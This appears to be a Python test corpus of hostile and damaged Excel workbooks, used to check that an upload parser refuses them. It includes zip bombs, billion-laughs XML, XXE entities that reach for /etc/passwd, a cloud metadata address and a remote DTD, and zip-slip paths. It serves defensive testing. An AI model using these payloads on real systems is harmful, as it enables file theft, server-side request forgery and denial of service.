"""Workbooks made to break who unpacks them: bombs, lies in the directory, XML that reaches out; and broken ones."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from functools import partial

from tests.corpus.books import (
    encrypted,
    long_directory,
    long_tag,
    lying_bomb,
    nested_tags,
    text_cells,
    with_part,
    workbook,
    workbook_parts,
    zip_bomb,
    zip_of,
)
from tests.corpus.cases import ADA, BEN, DAMAGED, TWO, Case, refused, taken

SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
DATA = text_cells("email", "first name") + text_cells(ADA, "Ada") + text_cells(BEN, "Ben")
LOCKED = "This workbook is protected with a password; save it without one."
NO_SHEET = "The workbook has no visible sheet with a table."
NO_TABLE = "This is a zip archive, not a table; unpack it and upload the file inside."


def unsafe(why: str) -> str:
    return f"This workbook is not read: {why}. Save the table as CSV."


BOMB = unsafe("it unpacks to far more than a table would")
DOCTYPE = unsafe("its XML declares a document type, which Excel never does")
UNSAFE_NAME = unsafe("a part of it has an unsafe name")
DEEP = unsafe("its tags are nested too deeply")
LONG_TAG = unsafe("there is a tag of more than a megabyte in it")
PACKED = unsafe("it is packed in a way that Excel does not use")
DIRECTORY = unsafe("its directory is longer than a thousand parts need")
UNPACKED = unsafe("unpacked it has more than 200 MB")


def cases() -> Iterator[Case]:
    for case in (*_bombs(), *_xml(), *_zips(), *_damage()):
        yield Case(**{**vars(case), "filename": "people.xlsx"})


def _noise(megabytes: int) -> bytes:
    """Text that hardly packs: four bits of noise a letter."""
    return random.Random(7).randbytes(megabytes << 19).hex().encode()


def _bombs() -> Iterator[Case]:
    yield refused("bomb-of-a-sheet", partial(zip_bomb, 30), BOMB)
    yield refused("bomb-that-lies-about-its-size", partial(lying_bomb, 30), DAMAGED)
    yield refused(
        "bomb-of-strings", lambda: with_part(STRINGS, b"<sst>" + b"<si><t>x</t></si>" * 400_000 + b"</sst>"), BOMB
    )
    yield refused("bomb-of-styles", lambda: with_part("xl/styles.xml", b"<styleSheet>" + b"<xf/>" * 2_000_000), BOMB)
    yield refused("bomb-in-a-part-nobody-reads", lambda: with_part("xl/media/image1.png", b"\0" * (30 << 20)), BOMB)
    yield refused("bomb-of-many-parts", _many_middling, UNPACKED)
    yield refused("1001-parts", lambda: zip_of({f"xl/{i}": "" for i in range(1_001)}),
                  unsafe("it has 1,001 parts inside, at most 1,000 are read"))  # fmt: skip
    yield refused("zip-in-a-zip-in-a-zip", zip_of({"a.zip": zip_of({"b.zip": zip_of({"c": "x" * 999})})}), NO_TABLE)
    inner = {**workbook_parts(DATA), "xl/embeddings/book.xlsx": workbook(DATA)}
    yield taken("a-workbook-in-a-workbook", zip_of(inner))
    yield refused("tags-in-tags", partial(nested_tags, 100_000), DEEP)
    yield refused("a-tag-of-4-mb", partial(long_tag, 4), LONG_TAG)
    yield refused("a-directory-of-megabytes", long_directory, DIRECTORY)
    yield refused("overlapping-parts", _overlapping, DAMAGED)


def _many_middling() -> bytes:
    # Each below what is looked at by itself, all together more than may be unpacked.
    noise = _noise(1)[: (1 << 20) - 9]
    return _claiming(zip_of({**workbook_parts(DATA), **{f"xl/media/{i}.bin": noise for i in range(2)}}), 190 << 20)


def _claiming(made: bytes, size: int) -> bytes:
    """The zip, its last two parts said to be of so many bytes, packed into a fiftieth."""
    book = bytearray(made)
    for name in (b"xl/media/0.bin", b"xl/media/1.bin"):
        place = bytes(book).rindex(name) - 46
        struct.pack_into("<II", book, place + 20, size // 50, size)
    return bytes(book)


def _overlapping() -> bytes:
    """Two entries of the directory for one stretch of the file, as in bombs without nesting."""
    made = bytearray(workbook(DATA))
    first = bytes(made).index(b"PK\x01\x02")
    second = bytes(made).index(b"PK\x01\x02", first + 4)
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    sheet = bytes(made).rindex(SHEET.encode()) - 46
    made[sheet + 42 : sheet + 46] = made[first + 42 : first + 46]
    return bytes(made)


def _xml() -> Iterator[Case]:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "ha"}">' for i in range(10))
    weapons = {
        "billion-laughs": f"<!DOCTYPE x [{laughs}]><worksheet>&l9;</worksheet>",
        "quadratic-blowup": f'<!DOCTYPE x [<!ENTITY a "{"a" * 10_000}">]><worksheet>{"&a;" * 1_000}</worksheet>',
        "xxe-file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>&e;</worksheet>',
        "xxe-web": '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/">]><worksheet>&e;</worksheet>',
        "xxe-parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://x.example/x.dtd"> %p;]><worksheet/>',
        "outer-doctype": '<!DOCTYPE x SYSTEM "http://x.example/x.dtd"><worksheet/>',
        "plain-doctype": "<!DOCTYPE worksheet><worksheet/>",
    }
    for name, xml in weapons.items():
        yield refused(f"sheet-with-{name}", with_part(SHEET, xml), DOCTYPE)
    for part in (STRINGS, BOOK, "xl/styles.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels"):
        yield refused(f"doctype-in-{part.rpartition('/')[2]}", with_part(part, weapons["billion-laughs"]), DOCTYPE)
    broken = {
        "unknown-entity": "<worksheet>&ha;</worksheet>",
        "cut-off": "<worksheet><sheetData><row><c",
        "not-xml": "email\r\na@x.example\r\n",
        "nothing": "",
        "two-roots": "<worksheet/><worksheet/>",
        "unknown-encoding": '<?xml version="1.0" encoding="klingon"?><a/>',
        "control-character": "<worksheet>\x01</worksheet>",
        "a-nul": "<worksheet>\0</worksheet>",
        "a-surrogate": "<worksheet>&#xD800;</worksheet>",
        "crossed-tags": "<worksheet><a><b></a></b></worksheet>",
        "attribute-twice": '<worksheet a="1" a="2"/>',
    }
    for name, xml in broken.items():
        yield refused(f"sheet-with-{name}", with_part(SHEET, xml), DAMAGED)
    yield refused("sheet-in-no-utf-8", with_part(SHEET, b"<worksheet>\xff\xfe\xfa</worksheet>"), DAMAGED)
    inside = f"<worksheet><sheetData>{DATA}</sheetData></worksheet>"
    yield taken(
        "sheet-in-utf-16", with_part(SHEET, ('<?xml version="1.0" encoding="UTF-16"?>' + inside).encode("utf-16"))
    )
    commented = inside.replace("<row>", "<row><!-- <c><v>x</v></c> --><?php x ?>")
    yield taken("sheet-with-comments", with_part(SHEET, commented))
    yield taken(
        "sheet-with-cdata",
        with_part(SHEET, inside.replace("Ada", "<![CDATA[Ada]]>")),
        holds={ADA: {"first_name": "Ada"}},
    )


def _zips() -> Iterator[Case]:
    parts = workbook_parts(DATA)
    for name in ("../../etc/passwd", "/etc/passwd", "..\\evil.dll", "C:/x", "xl/../../x", "\\\\host\\share"):
        yield refused(f"zip-slip-{name}", with_part(name, "x"), UNSAFE_NAME)
    yield refused("zip-with-a-password", encrypted(workbook(DATA)), LOCKED)
    yield refused("packed-by-bzip2-inside", zip_of(parts, zipfile.ZIP_BZIP2), PACKED)
    yield refused("packed-by-lzma-inside", zip_of(parts, zipfile.ZIP_LZMA), PACKED)
    yield taken("not-packed-at-all", zip_of(parts, zipfile.ZIP_STORED))
    yield taken("zip-64", _written(zip_64=True))
    yield taken("zip-with-data-descriptors", _written(streamed=True))
    yield taken("zip-with-a-comment", _commented(b"made by hand"))
    yield taken("zip-behind-a-program", b"\x50\x4b\x03\x04" + b"#!/bin/sh\n" + workbook(DATA))
    yield taken("macros", zip_of({**parts, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}))
    yield taken(
        "outer-links", zip_of({**parts, "xl/externalLinks/externalLink1.xml": "<x/>", "xl/connections.xml": "<x/>"})
    )
    twice = io.BytesIO(workbook(text_cells("email") + text_cells("evil@shop.example")))
    yield taken("a-part-twice", lambda: _appended(twice.getvalue()), TWO)
    yield taken(
        "parts-in-capitals", zip_of({name.upper() if "sheet1" in name else name: part for name, part in parts.items()})
    )


def _appended(made: bytes) -> bytes:
    """The zip with its sheet once more behind it: the last one counts, for us as for Excel."""
    buffer = io.BytesIO(made)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("XL/worksheets/sheet1.xml", f"<worksheet><sheetData>{DATA}</sheetData></worksheet>")
    return buffer.getvalue()


class _Stream(io.RawIOBase):
    """A sink that cannot go back, so that sizes are written behind the parts."""

    def __init__(self) -> None:
        self.parts: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data: bytes) -> int:  # type: ignore[override]
        self.parts.append(bytes(data))
        return len(data)


def _written(*, zip_64: bool = False, streamed: bool = False) -> bytes:
    buffer, stream = io.BytesIO(), _Stream()
    with zipfile.ZipFile(stream if streamed else buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in workbook_parts(DATA).items():
            with package.open(zipfile.ZipInfo(name), "w", force_zip64=zip_64) as part:
                part.write(content if isinstance(content, bytes) else content.encode())
    return b"".join(stream.parts) if streamed else buffer.getvalue()


def _commented(comment: bytes) -> bytes:
    buffer = io.BytesIO(workbook(DATA))
    with zipfile.ZipFile(buffer, "a") as package:
        package.comment = comment
    return buffer.getvalue()


def _damage() -> Iterator[Case]:
    whole = workbook(DATA)
    end = whole.rindex(b"PK\x05\x06")
    yield refused("no-directory", whole[:end], DAMAGED)
    yield refused("half-a-directory", whole[: end - 40], DAMAGED)
    yield refused("half-a-workbook", whole[: len(whole) // 2], DAMAGED)
    yield refused("four-bytes-of-a-workbook", whole[:4], DAMAGED)
    yield refused("directory-that-points-beyond", _patched(whole, end + 16, "<I", 0x7FFFFFFF), DAMAGED)
    yield refused("directory-of-negative-size", _patched(whole, end + 12, "<I", 0xFFFFFFFE), DAMAGED)
    yield taken("more-entries-said-than-there-are", _patched(whole, end + 10, "<H", 900))
    yield refused("wrong-checksum", _patched(whole, whole.rindex(SHEET.encode()) - 46 + 16, "<I", 1), DAMAGED)
    sheet = whole.index(SHEET.encode())
    yield refused("flipped-bytes-in-the-sheet", whole[: sheet + 60] + b"\xff" * 8 + whole[sheet + 68 :], DAMAGED)
    without = {name: part for name, part in workbook_parts(DATA).items() if name != SHEET}
    yield refused("without-its-sheet", zip_of(without), NO_SHEET)
    yield refused("without-a-list-of-sheets", with_part(BOOK, "<workbook><sheets/></workbook>"), NO_SHEET)
    bare = {name: part for name, part in workbook_parts(DATA).items() if name != BOOK}
    yield refused("without-a-book", zip_of(bare), DAMAGED)
    untold = {name: part for name, part in workbook_parts(DATA).items() if not name.startswith("[")}
    yield refused("without-its-types", zip_of(untold), NO_TABLE)
    plain = {name: part for name, part in workbook_parts(DATA).items() if name not in (STRINGS, "xl/styles.xml")}
    yield taken("without-strings-and-styles", zip_of(plain))
    yield taken("types-that-lie", with_parts({"[Content_Types].xml": "<Types>image/png</Types>"}))
    loop = '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="workbook.xml"/></Relationships>'
    yield refused("a-sheet-that-is-the-book", with_part("xl/_rels/workbook.xml.rels", loop), "The file is empty.")
    away = '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../etc/passwd"/></Relationships>'
    yield refused("a-sheet-outside", with_part("xl/_rels/workbook.xml.rels", away), NO_SHEET)
    web = '<Relationships><Relationship Id="rId1" Type="x/worksheet" TargetMode="External" Target="http://x.example"/></Relationships>'
    yield refused("a-sheet-in-the-web", with_part("xl/_rels/workbook.xml.rels", web), NO_SHEET)


def with_parts(others: dict[str, bytes | str]) -> bytes:
    return zip_of({**workbook_parts(DATA), **others})


def _patched(made: bytes, place: int, form: str, value: int) -> bytes:
    book = bytearray(made)
    struct.pack_into(form, book, place, value)
    return bytes(book)
